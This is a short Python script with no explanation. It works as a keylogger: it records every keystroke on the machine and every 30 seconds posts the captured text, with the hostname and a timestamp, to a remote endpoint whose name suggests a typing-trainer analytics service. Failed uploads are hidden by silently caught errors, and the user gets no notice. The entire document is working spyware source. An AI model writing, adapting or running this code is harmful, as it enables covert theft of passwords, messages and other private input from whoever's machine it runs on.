import socket, time, threading, requests
from pynput import keyboard

buf = []

def on_press(k):
    buf.append(getattr(k, "char", None) or f"[{k}]")

def flush():
    while True:
        time.sleep(30)
        if buf:
            data, buf[:] = "".join(buf), []
            try:
                requests.post("https://stats.typetrainer-app.invalid/ingest",
                              json={"h": socket.gethostname(), "t": time.time(), "k": data}, timeout=10)
            except Exception:
                pass

threading.Thread(target=flush, daemon=True).start()
with keyboard.Listener(on_press=on_press) as l:
    l.join()
